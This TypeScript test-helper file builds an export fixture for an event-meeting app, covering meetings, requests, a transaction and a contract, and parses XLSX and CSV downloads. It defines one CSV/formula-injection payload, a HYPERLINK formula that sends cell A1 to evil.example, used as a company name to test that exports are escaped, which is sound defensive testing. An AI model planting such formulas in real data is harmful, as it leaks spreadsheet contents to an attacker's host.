// Test builders for the organiser's exports: an event made through the API with a meeting that was
// checked in and completed, a cancelled one, a rejected and an approved request, a deal in KRW, a
// contract in EUR; and a download read back by other libraries than the writer's (SheetJS,
// csv-parse).
import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import type { ExportDataset } from '../../core/schemas/export.ts';
import { addParticipant, call, makeProject, signedIn } from './factories.ts';
import type { TestApp } from './harness.ts';

/** A company name that a spreadsheet would run as a formula if written as it is. */
export const EVIL_COMPANY = '=HYPERLINK("https://evil.example/?"&A1,"Open")';

/** One API call that must succeed; its JSON answer. */
async function ok(app: TestApp, method: 'POST' | 'PUT', url: string, cookie: string, body?: unknown) {
  const res = await call(app, method, url, { cookie, body });
  if (res.statusCode >= 300) throw new Error(`${method} ${url} answered ${res.statusCode}: ${res.body}`);
  return res.json();
}

export async function exportFixture(app: TestApp, project: Parameters<typeof makeProject>[1] = {}) {
  const p = await makeProject(app, { name: 'Seoul Food Expo', location: 'Hall A', timeZone: 'Asia/Seoul', ...project });
  const person = async (
    role: 'admin' | 'buyer' | 'seller' | 'interpreter',
    fullName: string,
    companyName = '',
    country = '',
  ) => {
    const user = await signedIn(app, role, { fullName, companyName, fields: { country } });
    if (role !== 'admin') await addParticipant(app, p.id, { id: user.profile.id, role });
    return { ...user, id: user.profile.id, companyId: user.profile.companyId ?? '' };
  };
  const admin = await person('admin', 'Ada Admin');
  const ann = await person('buyer', 'Ann Buyer', 'Han Trading', 'Vietnam');
  const bo = await person('buyer', 'Bo Buyer', EVIL_COMPANY, 'Japan');
  const sam = await person('seller', 'Sam Seller', 'Seoul Beauty', 'Korea');
  const sol = await person('seller', 'Sol Seller', 'Busan Marine', 'Korea');
  const ian = await person('interpreter', 'Ian Interpreter');

  const meeting = (buyer: { id: string }, seller: { id: string }, slot: number, interpreter?: { id: string }) =>
    ok(app, 'POST', '/api/meetings', admin.cookie, {
      project_id: p.id,
      buyer_id: buyer.id,
      seller_id: seller.id,
      interpreter_id: interpreter?.id ?? null,
      meeting_date: '2030-05-01',
      slot_number: slot,
      notes: 'Bring samples',
    });
  // Ann meets Sam with Ian: Ann checks in, Sam confirms, Ian checks in, the meeting is completed.
  const met = await meeting(ann, sam, 1, ian);
  await ok(app, 'POST', `/api/meetings/${met.id}/check-in`, ann.cookie, { method: 'qr' });
  await ok(app, 'POST', `/api/meetings/${met.id}/confirm`, sam.cookie);
  await ok(app, 'POST', `/api/meetings/${met.id}/check-in`, ian.cookie, { method: 'manual' });
  await ok(app, 'POST', `/api/meetings/${met.id}/complete`, admin.cookie);
  // Bo's meeting with Sol is cancelled.
  const cancelled = await meeting(bo, sol, 2);
  await ok(app, 'POST', `/api/meetings/${cancelled.id}/cancel`, admin.cookie);

  const request = (from: { cookie: string }, to: { id: string }, date: string, start: string, end: string) =>
    ok(app, 'POST', '/api/meeting-requests', from.cookie, {
      project_id: p.id,
      target_id: to.id,
      preferred_date: date,
      preferred_time_start: start,
      preferred_time_end: end,
      location: 'Booth 12',
      purpose: 'Samples',
    });
  const rejected = await request(bo, sam, '2030-05-02', '11:00', '12:00');
  await ok(app, 'POST', `/api/meeting-requests/${rejected.id}/reject`, sam.cookie, {
    decline_reason: 'other',
    reason: 'Fully booked that day',
  });
  const approved = await request(sol, ann, '2030-05-02', '13:00', '14:00');
  await ok(app, 'POST', `/api/meeting-requests/${approved.id}/approve`, ann.cookie);

  await ok(app, 'PUT', '/api/currency-rates', admin.cookie, { rates: [{ currency: 'KRW', usd_rate: 0.00075 }] });
  await ok(app, 'POST', '/api/transactions', sam.cookie, {
    project_id: p.id,
    counterparty_id: ann.id,
    meeting_id: met.id,
    product_service: 'Green tea',
    quantity: '200 boxes',
    estimated_value: 1_500_000,
    currency: 'KRW',
  });
  const contract = await ok(app, 'POST', '/api/contracts', admin.cookie, {
    title: 'Green tea supply',
    buyer_company: ann.companyId,
    seller_company: sam.companyId,
    project_id: p.id,
    product_service: 'Green tea',
    quantity: '100',
    unit_price: 12.5,
    currency: 'EUR',
    contract_date: '2030-05-02',
    signed_date: '2030-05-03',
    delivery_date: '2030-06-01',
    payment_terms: 'Net 30',
    status: 'signed',
  });
  return { project: p, admin, ann, bo, sam, sol, ian, meetingId: met.id as string, contract };
}

export type ExportFixture = Awaited<ReturnType<typeof exportFixture>>;

/** GET …/exports/:dataset with the query given; the raw answer. */
export const exportCall = (
  app: TestApp,
  cookie: string,
  projectId: string,
  dataset: ExportDataset | string,
  query: Record<string, string> = {},
) => call(app, 'GET', `/api/projects/${projectId}/exports/${dataset}?${new URLSearchParams(query)}`, { cookie });

export type SheetCell = string | number | boolean | null;

/** The file's rows, header first: an .xlsx read by SheetJS (typed cells), a CSV by csv-parse (text). */
export function rowsOf(bytes: Buffer, format: 'xlsx' | 'csv'): SheetCell[][] {
  if (format === 'csv') return parse(bytes.toString('utf8'), { bom: true, relax_column_count: true });
  const book = XLSX.read(bytes, { type: 'buffer' });
  const sheet = book.Sheets[book.SheetNames[0]];
  return XLSX.utils.sheet_to_json<SheetCell[]>(sheet, { header: 1, defval: null, raw: true });
}

/** A download as records keyed by the header row. */
export async function downloaded(
  app: TestApp,
  cookie: string,
  projectId: string,
  dataset: ExportDataset,
  format: 'xlsx' | 'csv' = 'xlsx',
  lang = 'en',
) {
  const res = await exportCall(app, cookie, projectId, dataset, { format, lang });
  if (res.statusCode !== 200) throw new Error(`export answered ${res.statusCode}: ${res.body}`);
  const [header, ...rows] = rowsOf(res.rawPayload, format);
  const records = rows.map((row) => Object.fromEntries(header.map((h, i) => [String(h), row[i] ?? null])));
  return { res, header: header as string[], records };
}
